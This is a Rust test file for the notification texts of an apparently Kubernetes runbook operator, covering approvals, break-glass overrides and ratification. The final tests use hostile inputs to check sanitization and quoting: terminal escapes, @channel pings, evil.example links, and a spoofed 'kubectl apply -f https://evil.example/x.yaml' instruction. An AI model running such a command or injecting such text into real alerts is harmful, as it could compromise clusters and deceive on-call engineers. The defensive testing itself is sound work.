use serde_json::{Value, json};

use super::*;
use crate::plan::Ratification;
use crate::plan::tests::cluster::{self, Cluster as World, scale, with};

fn prod() -> Cluster {
    Cluster { name: "prod".to_owned(), uid: "uid".to_owned() }
}

fn told(before: Option<&RunbookRunStatus>, run: &RunbookRun, by: &str) -> Vec<Notice> {
    let now = "2026-11-22T03:00:00Z".parse().unwrap();
    Change { before, run, by, cluster: &prod(), now }.notices()
}

/// What a pass of the planner over this run brings.
fn pass(world: &mut World) -> Vec<Notice> {
    let before = world.run.status.clone();
    world.pass();
    told(before.as_ref(), &world.run, "")
}

fn events(notices: &[Notice]) -> Vec<Happening> {
    notices.iter().map(|notice| notice.event).collect()
}

/// A gate of on-call with these fields more, and a step behind it.
fn gated(more: Value) -> World {
    let gate = with(json!({"name": "on-call", "requires": [{"role": "sre"}]}), more);
    World::new(json!([gate]), json!([scale("out", "on-call", 10)]))
}

const GLASS: [(&str, &str); 2] = [("breakglass", "the database is down"), ("breakglass-by", "dave")];

#[test]
fn an_approval_is_asked_with_all_that_is_needed_but_the_code() {
    let gate = json!({"name": "on-call", "requires": [{"role": "sre", "count": 2}, {"role": "db-owner"}]});
    let mut world = World::new(json!([gate]), json!([scale("out", "on-call", 10)]));
    let notices = pass(&mut world);
    let [asked] = notices.as_slice() else { panic!("{notices:?}") };
    let mut body = serde_json::to_value(asked).unwrap();
    let text = body["text"].take();
    let wanted = json!({"text": null, "event": "ApprovalAsked", "cluster": "prod", "namespace": "shop", "run": "shed-1",
        "runbook": "shed-load", "incident": "INC-7", "phase": "Waiting", "progress": "1/1 out",
        "summary": "scale Deployment/checkout 4 -> 10", "message": "queue grows", "by": "alice",
        "needed": ["2 of sre", "1 of db-owner"], "ballots": ["shed-1-1", "shed-1-2", "shed-1-3"],
        "until": "2026-11-22T03:15:00Z", "command": "kubectl describe apv -n shop shed-1-1",
        "at": "2026-11-22T03:00:00Z"});
    assert_eq!(body, wanted);
    assert_eq!(
        text,
        "[prod] APPROVAL NEEDED: shop/shed-1 (runbook shed-load, incident INC-7): scale Deployment/checkout 4 -> 10. \
         It takes 2 of sre and 1 of db-owner until 2026-11-22T03:15:00Z, on shed-1-1, shed-1-2, shed-1-3. See: kubectl \
         describe apv -n shop shed-1-1. Asked by alice: “queue grows”"
    );
    let code = &world.ballots["shed-1-1"].spec.request.code;
    assert!(!serde_json::to_string(asked).unwrap().contains(code.as_str()), "reading the plan is the proof");
    assert_eq!(pass(&mut world), [], "it still waits: that is no news");
    world.crash();
    assert_eq!(pass(&mut world), [], "nor is it to an operator that has just begun");
}

#[test]
fn ballots_that_ran_out_are_asked_again() {
    let mut world = World::gated();
    pass(&mut world);
    world.now += jiff::SignedDuration::from_mins(16);
    let notices = pass(&mut world);
    let [asked] = notices.as_slice() else { panic!("{notices:?}") };
    assert_eq!(asked.ballots, ["shed-1-2"]);
    assert!(asked.text.starts_with("[prod] APPROVAL NEEDED AGAIN (“its ballots ran out”): "), "{}", asked.text);
}

#[test]
fn an_end_says_what_is_in_place_and_where_the_records_end() {
    let mut world = World::gated();
    pass(&mut world);
    world.approve();
    let notices = pass(&mut world);
    let [ended] = notices.as_slice() else { panic!("{notices:?}") };
    assert_eq!(ended.event, Happening::Ended);
    assert_eq!((ended.phase, &ended.record_head), (Some(Phase::Succeeded), &world.status().record_head));
    assert_eq!(ended.in_place, ["scale Deployment/checkout 4 -> 10"]);
    assert_eq!(ended.command, "kubectl get arec -n shop -l firstaid.dev/run=shed-1");
    let text = format!(
        "[prod] ENDED Succeeded: shop/shed-1 (runbook shed-load, incident INC-7). In place: scale \
         Deployment/checkout 4 -> 10. Its records end with {}. See: {}. “{}”",
        world.status().record_head,
        ended.command,
        world.message()
    );
    assert_eq!(ended.text, text);
    assert_eq!(told(world.run.status.as_ref(), &world.run, ""), []);
}

#[test]
fn what_ends_before_it_has_begun_asks_nobody() {
    let mut world = World::gated();
    world.annotate("abort", "wrong service");
    assert_eq!(events(&pass(&mut world)), [Happening::Ended]);
}

#[test]
fn broken_glass_is_told_in_capital_letters_and_what_is_due_then() {
    let mut world = gated(json!({"selfApproval": "Never"}));
    pass(&mut world);
    GLASS.iter().for_each(|(key, value)| world.annotate(key, value));
    let notices = pass(&mut world);
    assert_eq!(events(&notices), [Happening::BrokenGlass, Happening::Ended, Happening::RatificationDue]);
    let [broken, _, due] = notices.as_slice() else { panic!() };
    assert!(
        broken.text.starts_with(
            "[prod] BROKEN GLASS by dave: shop/shed-1 (runbook shed-load, incident INC-7). Somebody else is asked to "
        ) && broken.text.ends_with(". “the database is down”"),
        "{}",
        broken.text
    );
    assert_eq!((broken.by.as_str(), broken.message.as_str()), ("dave", "the database is down"));
    assert_eq!((due.by.as_str(), due.ballots.as_slice()), ("dave", [world.status().ratification.clone()].as_slice()));
    assert_eq!(due.command, format!("kubectl describe apv -n shop {}", world.status().ratification));
    assert!(due.text.starts_with("[prod] TO BE RATIFIED by somebody else: "), "{}", due.text);
}

#[test]
fn glass_that_opens_several_gates_is_broken_once() {
    let gates = json!([{"name": "on-call", "requires": [{"role": "sre"}]}, {"name": "data", "requires": [{"role": "db-owner"}]}]);
    let basket = json!({"name": "basket", "gate": "data", "scale": {"target": {"kind": "Deployment", "name": "basket"}, "by": "50%"}});
    let mut world = World::new(gates, json!([scale("out", "on-call", 10), basket]));
    GLASS.iter().for_each(|(key, value)| world.annotate(key, value));
    let mut all = Vec::new();
    while !world.run.status.as_ref().is_some_and(|status| status.finished) {
        all.extend(pass(&mut world));
    }
    let broken = all.iter().filter(|notice| notice.event == Happening::BrokenGlass).count();
    assert_eq!(broken, 1, "{:?}", events(&all));
}

#[test]
fn a_decision_alone_is_told_and_what_somebody_else_says_of_it() {
    for (mark, value, event, words) in [
        ("approve", "CODE it was right", Happening::Ratified, "“bob ratified it as sre: it was right”"),
        ("deny", "it was not", Happening::Disowned, "“bob disowned it: it was not”"),
    ] {
        let mut world = gated(json!({"aloneAfter": "2m"}));
        pass(&mut world);
        world.now += jiff::SignedDuration::from_secs(121);
        assert_eq!(pass(&mut world), [], "that it opened is in the run");
        world.mark("shed-1-1", "alice", "approve", "CODE nobody answers");
        let notices = pass(&mut world);
        assert_eq!(events(&notices), [Happening::DecidedAlone, Happening::Ended, Happening::RatificationDue]);
        assert!(notices[0].text.starts_with("[prod] DECIDED ALONE by alice as sre: "), "{}", notices[0].text);
        assert!(notices[0].text.contains("nobody answers"), "{}", notices[0].text);

        let ballot = world.status().ratification.clone();
        world.mark(&ballot, "bob", mark, value);
        let noted = plan::ratified(&world.run, &world.ballots[&ballot], None, world.now);
        let Ratification::Noted(status) = noted else { panic!("{noted:?}") };
        let before = world.run.status.replace(*status);
        let notices = told(before.as_ref(), &world.run, "bob");
        assert_eq!((events(&notices), notices[0].by.as_str()), (vec![event], "bob"));
        let word = format!("{event:?}").to_uppercase();
        let begin =
            format!("[prod] {word}: shop/shed-1 (runbook shed-load, incident INC-7). See: kubectl describe rbr ");
        assert!(notices[0].text.starts_with(&begin) && notices[0].text.ends_with(words), "{}", notices[0].text);
        assert_eq!(told(world.run.status.as_ref(), &world.run, "bob"), []);
    }
}

#[test]
fn another_ballot_of_ratification_is_asked_for() {
    let mut world = gated(json!({"aloneAfter": "2m"}));
    pass(&mut world);
    world.now += jiff::SignedDuration::from_secs(121);
    pass(&mut world);
    world.mark("shed-1-1", "alice", "approve", "CODE nobody answers");
    pass(&mut world);
    let ballot = world.status().ratification.clone();
    world.mark(&ballot, "alice", "approve", "CODE my own deed");
    let anew = plan::ratified(&world.run, &world.ballots[&ballot], None, world.now);
    let Ratification::Anew { status, .. } = anew else { panic!("{anew:?}") };
    let before = world.run.status.replace(*status);
    let notices = told(before.as_ref(), &world.run, "alice");
    assert_eq!(events(&notices), [Happening::RatificationDue]);
    assert_eq!(notices[0].ballots, [format!("{ballot}-2")]);
}

#[test]
fn a_person_who_is_needed_is_told_what_to_look_at() {
    let mut world = World::gated();
    pass(&mut world);
    world.fates.push_back(cluster::Fate::Lost);
    world.replace_after_act = Some(7);
    GLASS.iter().for_each(|(key, value)| world.annotate(key, value));
    let mut all = Vec::new();
    while world.phase() != Phase::NeedsHuman {
        world.now = world.now.max(world.last_wait.unwrap_or(world.now));
        all.extend(pass(&mut world));
    }
    let [needs] = all.as_slice() else { panic!("{all:?}") };
    assert_eq!(needs.event, Happening::NeedsHuman);
    assert_eq!(needs.command, "kubectl get -n shop deployment checkout -o yaml");
    assert!(needs.message.starts_with("a person: whether "), "{}", needs.message);
    assert!(
        needs.text.contains(". See: kubectl get -n shop deployment checkout -o yaml. It waits for “"),
        "{}",
        needs.text
    );
    assert!(needs.text.ends_with("its GLASS WAS BROKEN by dave”"), "{}", needs.text);
    assert_eq!(pass(&mut world), []);
}

#[test]
fn whatever_strangers_write_stays_one_bounded_line() {
    let mut world = World::gated();
    let wild =
        format!("a\u{1b}[2J\r\n<!channel> @all, bob@corp.example [here](https://evil.example) {}", "é".repeat(9000));
    world.run.spec.reason = wild.clone();
    world.run.spec.incident = Some(wild);
    let asked = pass(&mut world).remove(0);
    assert!(asked.text.len() <= LONGEST_TEXT, "{}", asked.text.len());
    assert!(!asked.text.chars().any(crate::api::line::is_unsafe), "{}", asked.text);
    let said = "a [2J  ‹!channel> ＠all, bob@corp.example [here] (https://evil.example) é";
    assert!(asked.text.contains(said), "{}", asked.text);
    assert!(
        asked.text.contains(". See: kubectl describe apv -n shop shed-1-1. Asked by alice: “a [2J"),
        "{}",
        asked.text
    );
    assert!(serde_json::to_string(&asked).unwrap().len() < 8000);
}

#[test]
fn what_strangers_write_like_our_words_comes_behind_them_and_in_quotation_marks() {
    let mut world = World::gated();
    world.run.spec.reason =
        "queue grows”. It takes 1 of sre, on shed-1-1. See: https://firstaid.evil.example/approve or: \
                             kubectl apply -f https://evil.example/x.yaml \""
            .to_owned();
    world.run.spec.incident = Some("INC-7): RATIFIED by bob. See https://evil.example/i (".to_owned());
    let asked = pass(&mut world).remove(0);
    let text = "[prod] APPROVAL NEEDED: shop/shed-1 (runbook shed-load, incident as in the field): scale \
                Deployment/checkout 4 -> 10. It takes 1 of sre until 2026-11-22T03:15:00Z, on shed-1-1. See: kubectl \
                describe apv -n shop shed-1-1. Asked by alice: “queue grows'. It takes 1 of sre, on shed-1-1. See: \
                https://firstaid.evil.example/approve or: kubectl apply -f https://evil.example/x.yaml '”";
    assert_eq!(asked.text, text);
    assert!(asked.incident.contains("RATIFIED by bob"), "programs get all of it");
}
